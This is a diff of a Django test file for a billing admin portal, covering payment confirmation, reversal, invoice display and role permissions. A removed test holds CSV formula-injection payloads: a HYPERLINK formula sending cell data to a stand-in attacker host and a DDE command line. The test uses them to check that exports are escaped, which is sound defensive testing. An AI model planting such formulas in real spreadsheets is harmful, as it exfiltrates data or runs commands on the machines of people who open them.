@@ -1,4 +1,9 @@
+"""The payments page of a record: confirm with a method choice, the invoice with its status and
+PDF, revert on a confirmation page naming who is emailed; and who may do what."""
+
 from __future__ import annotations
+
+import re
 
 import pytest
 from django.test import Client
@@ -13,31 +18,92 @@ def _login(persona) -> Client:
     return client
 
 
-def test_payments_page_confirm_then_revert_with_confirmation(admin, customer, make_appointment):
+def _payments(kind: str, record_id: str) -> str:
+    return f"/admin/billing/payments/{kind}/{record_id}/"
+
+
+def test_payments_page_confirm_shows_invoice_then_revert_names_recipient(admin, customer, make_appointment):
     appointment = make_appointment(created_user_id=customer.user_id)
     client = _login(admin)
-    url = f"/admin/billing/payments/appointment/{appointment.appointment_id}/"
-    page = client.get(url)
-    assert page.status_code == 200
-    assert b"confirm-payment-form" in page.content
-    assert b"$280.00" in page.content
+    url = _payments("appointment", appointment.appointment_id)
+    page = client.get(url).content.decode()
+    assert 'id="confirm-payment-form"' in page
+    assert "Confirm payment of $280.00" in page
+    assert 'value="cash" required id="id_payment_method_0" checked' in page  # cash preselected: one click
+    assert "No invoice yet" in page
     response = client.post(url, {"payment_method": "bank_transfer"}, follow=True)
     assert b"Bank Transfer payment confirmed successfully" in response.content
     stored = Appointment.get(appointment.appointment_id)
-    assert stored.payment_method == "bank_transfer"
-    assert stored.invoice_id.encode() in response.content
-    confirm_page = client.get(url + "revert/")
-    assert b"No money is refunded" in confirm_page.content
+    invoice = Invoice.get(stored.invoice_id)
+    html = response.content.decode()
+    assert f'href="/admin/billing/invoices/{invoice.invoice_id}/">Tax invoice {invoice.invoice_number}</a>' in html
+    assert '<span class="badge status-generated" id="invoice-status">Generated</span>' in html
+    assert f'href="/admin/billing/invoices/{invoice.invoice_id}/pdf/">Download PDF</a>' in html
+    assert "$280.00 (GST $25.45) · Bank transfer" in html
+    assert 'confirmed by <span id="confirmed-by">Ada Admin</span>' in html
+    assert admin.user_id[:8] not in html  # a name, never the staff id
+    assert 'id="payment-method">Bank transfer<' in html
+    assert "bank_transfer" not in html.replace('value="bank_transfer"', "")
+
+    confirm_page = client.get(url + "revert/").content.decode()
+    assert "no money is refunded" in confirm_page
+    assert f"Tax invoice {invoice.invoice_number} is cancelled" in confirm_page
+    assert "Jane Buyer (jane@example.com) is emailed that the payment was cancelled." in confirm_page
     assert Appointment.get(appointment.appointment_id).payment_status == "paid"  # GET changes nothing
     client.post(url + "revert/", follow=True)
     assert Appointment.get(appointment.appointment_id).payment_status == "pending"
     assert Invoice.get(stored.invoice_id).status == "cancelled"
+    again = client.get(url + "revert/").content.decode()
+    assert "there is nothing to revert" in again
+    assert 'id="confirm-revert"' not in again
+
+
+def test_revert_page_says_no_one_is_emailed_without_an_address(admin, customer, make_appointment):
+    appointment = make_appointment(created_user_id=customer.user_id, buyer_email="")
+    client = _login(admin)
+    url = _payments("appointment", appointment.appointment_id)
+    client.post(url, {"payment_method": "cash"})
+    page = client.get(url + "revert/").content.decode()
+    assert "No one is emailed: the appointment has no email address." in page
+
+
+def test_payments_bad_input(admin, customer, make_appointment):
+    appointment = make_appointment(created_user_id=customer.user_id)
+    client = _login(admin)
+    url = _payments("appointment", appointment.appointment_id)
+    refused = client.post(url, {"payment_method": "bitcoin"})
+    assert refused.status_code == 200
+    assert b"Select a valid choice" in refused.content
+    assert Appointment.get(appointment.appointment_id).payment_status == "pending"
+    assert client.get(_payments("appointment", "no-such-id")).status_code == 404
+    assert client.get(_payments("invoice", appointment.appointment_id)).status_code == 404
+    assert client.get(_payments("order", appointment.appointment_id) + "revert/").status_code == 404
+    assert client.get(_payments("appointment", "no-such-id") + "invoice.json").status_code == 404
+
+
+def test_payments_invoice_json_states(admin, customer, make_appointment):
+    appointment = make_appointment(created_user_id=customer.user_id)
+    client = _login(admin)
+    url = _payments("appointment", appointment.appointment_id)
+    assert client.get(url + "invoice.json").json() == {"state": "none"}
+    client.post(url, {"payment_method": "cash"})
+    invoice = Invoice.get(Appointment.get(appointment.appointment_id).invoice_id)
+    assert client.get(url + "invoice.json").json() == {
+        "state": "ready",
+        "invoiceId": invoice.invoice_id,
+        "number": invoice.invoice_number,
+        "status": "generated",
+        "statusLabel": "Generated",
+        "statusClass": "status-generated",
+        "detailUrl": f"/admin/billing/invoices/{invoice.invoice_id}/",
+        "pdfUrl": f"/admin/billing/invoices/{invoice.invoice_id}/pdf/",
+    }
 
 
 def test_support_sees_payments_but_cannot_confirm(support, customer, make_appointment):
     appointment = make_appointment(created_user_id=customer.user_id)
     client = _login(support)
-    url = f"/admin/billing/payments/appointment/{appointment.appointment_id}/"
+    url = _payments("appointment", appointment.appointment_id)
     assert client.get(url).status_code == 200
     assert b"confirm-payment-form" not in client.get(url).content
     assert client.post(url, {"payment_method": "cash"}).status_code == 403
@@ -49,24 +115,6 @@ def test_mechanic_cannot_open_billing_pages(mechanic):
     client = _login(mechanic)
     for url in ("/admin/billing/invoices/", "/admin/billing/analytics/", "/admin/billing/invoices/new/"):
         assert client.get(url).status_code == 403
-
-
-def test_invoice_list_cancel_and_reactivate(admin, customer, make_appointment):
-    appointment = make_appointment(created_user_id=customer.user_id, scheduled_date="2030-01-10")
-    client = _login(admin)
-    client.post(f"/admin/billing/payments/appointment/{appointment.appointment_id}/", {"payment_method": "cash"})
-    invoice_id = Appointment.get(appointment.appointment_id).invoice_id
-    listing = client.get("/admin/billing/invoices/", {"start_date": "2030-01-01", "end_date": "2030-01-31"})
-    assert invoice_id.encode() in listing.content
-    client.post(f"/admin/billing/invoices/{invoice_id}/cancel/")
-    assert Invoice.get(invoice_id).status == "cancelled"
-    client.post(f"/admin/billing/invoices/{invoice_id}/reactivate/")
-    assert Invoice.get(invoice_id).status == "generated"
-    pdf = client.get(f"/admin/billing/invoices/{invoice_id}/pdf/")
-    assert pdf.status_code == 302
-    assert client.get(pdf["Location"]).content.startswith(b"%PDF-")
-    too_long = client.get("/admin/billing/invoices/", {"start_date": "2030-01-01", "end_date": "2030-12-31"})
-    assert b"at most 90 days" in too_long.content
 
 
 def test_manual_invoice_wizard(admin, catalogue):
@@ -95,85 +143,14 @@ def test_manual_invoice_wizard(admin, catalogue):
     assert data["orders"] == [{"item_name": "Wiper blades", "unit_price": "25.5", "quantity": "2", "total_price": "51"}]
     assert data["effectiveDate"] == "03/02/2030"
     assert invoice.reference_type == "invoice_id"
-
-
-def test_analytics_dashboard_and_csv(support, admin, customer, make_appointment):
-    appointment = make_appointment(created_user_id=customer.user_id, scheduled_date="2030-01-10")
-    _login(admin).post(f"/admin/billing/payments/appointment/{appointment.appointment_id}/", {"payment_method": "cash"})
-    client = _login(support)
-    page = client.get("/admin/billing/analytics/", {"start_date": "2030-01-01", "end_date": "2030-01-31"})
-    assert page.status_code == 200
-    assert page.content.count(b'class="portal-chart"') == 6
-    assert b'aria-label="Revenue by payment method"' in page.content
-    assert b"<title>cash: $280.00</title>" in page.content
-    assert b"$280.00" in page.content
-    csv_response = client.get(
-        "/admin/billing/analytics/export.csv", {"start_date": "2030-01-01", "end_date": "2030-01-31"}
-    )
-    assert csv_response["Content-Type"] == "text/csv"
-    text = csv_response.content.decode()
-    assert "summary,total_revenue,280" in text
-    assert "daily_revenue,2030-01-10,280" in text
-    assert "vehicle_make,Toyota,1" in text
-    bad = client.get("/admin/billing/analytics/export.csv", {"start_date": "2030-02-01", "end_date": "2030-01-01"})
-    assert bad.status_code == 400
-
-
-@pytest.mark.parametrize(
-    "make",
-    [
-        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
-        "+1+cmd|' /C calc'!A0",
-        "-2+3",
-        "@SUM(A1:A9)",
-        "\tTab",
-        "\rCR",
-    ],
-)
-def test_analytics_csv_cells_are_never_formulas(make, admin, customer, make_appointment):
-    """#20.6: a car make a customer typed reaches the spreadsheet as text, with a leading '."""
-    import csv
-    import io
-
-    appointment = make_appointment(created_user_id=customer.user_id, scheduled_date="2030-01-10", car_make=make)
-    client = _login(admin)
-    client.post(f"/admin/billing/payments/appointment/{appointment.appointment_id}/", {"payment_method": "cash"})
-    response = client.get("/admin/billing/analytics/export.csv", {"start_date": "2030-01-01", "end_date": "2030-01-31"})
-    assert response.status_code == 200
-    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
-    makes = [row for row in rows if row[0] == "vehicle_make"]
-    assert makes == [["vehicle_make", "'" + make, "1"]]
-    assert ["summary", "total_revenue", "280"] in rows  # numbers stay numbers
-
-
-@pytest.mark.django_db(transaction=True)
-def test_browser_confirm_payment_and_download_invoice(
-    portal_login, live_server, settings, admin, customer, make_appointment
-):
-    settings.PUBLIC_BASE_URL = live_server.url  # the PDF route redirects to a file link absolute on it
-    appointment = make_appointment(created_user_id=customer.user_id)
-    page = portal_login(admin)
-    page.set_viewport_size({"width": 390, "height": 844})  # a mechanic's phone
-    page.goto(f"{live_server.url}/admin/billing/payments/appointment/{appointment.appointment_id}/")
-    page.select_option("#id_payment_method", "cash")
-    page.click("#confirm-payment-form input[type=submit]")
-    page.wait_for_selector("text=Cash payment confirmed successfully")
-    assert page.inner_text("#payment-status") == "paid"
-    page.click("#record-invoices a[href*='/admin/billing/invoices/']")
-    page.wait_for_selector("#invoice-card")
-    pdf = page.request.get(live_server.url + page.get_attribute("#invoice-pdf", "href"))  # shares the session
-    assert pdf.ok
-    assert pdf.body().startswith(b"%PDF-")
-    page.click("#cancel-invoice")
-    page.click("#confirm-action")
-    page.wait_for_selector("text=cancelled.")
-    assert page.inner_text("#invoice-status") == "cancelled"
+    assert (invoice.list_key, invoice.search_name, invoice.search_email) == ("invoice", "walk in", "walk@example.com")
+    html = done.content.decode()
+    assert 'confirmed by <span id="issued-by">Ada Admin</span>' in html  # who created it, by name
+    assert 'id="invoice-total"><strong>$331.00</strong>' in html
 
 
 def _link(html: str, element_id: str) -> tuple[str, str] | None:
     """(href, text) of the element with ``element_id``, or None."""
-    import re
-
     found = re.search(rf'<a [^>]*id="{element_id}" href="([^"]+)">([^<]+)</a>', html)
     return (found.group(1), found.group(2)) if found else None
 
@@ -187,7 +164,7 @@ def test_record_pages_link_to_payment_confirm_and_revert(
     record = make_appointment(created_user_id=customer.user_id) if kind == "appointment" else None
     record = record or make_order(created_user_id=customer.user_id)
     record_id = record.appointment_id if kind == "appointment" else record.order_id
-    payments = f"/admin/billing/payments/{kind}/{record_id}/"
+    payments = _payments(kind, record_id)
 
     client = _login(admin)
     detail = client.get(page.format(record_id))
@@ -197,7 +174,9 @@ def test_record_pages_link_to_payment_confirm_and_revert(
     paid = client.get(page.format(record_id)).content.decode()
     href, _ = _link(paid, "payments-link")
     assert href == payments
-    assert _link(client.get(href).content.decode(), "revert-link") == (payments + "revert/", "Revert payment…")
+    payments_page = client.get(href).content.decode()
+    assert _link(payments_page, "revert-link") == (payments + "revert/", "Revert payment…")
+    assert _link(payments_page, "invoice-pdf")[1] == "Download PDF"  # the invoice, one click from the record
 
     support_page = _login(support).get(page.format(record_id)).content.decode()
     assert _link(support_page, "payments-link") == (payments, "Payments and invoices")
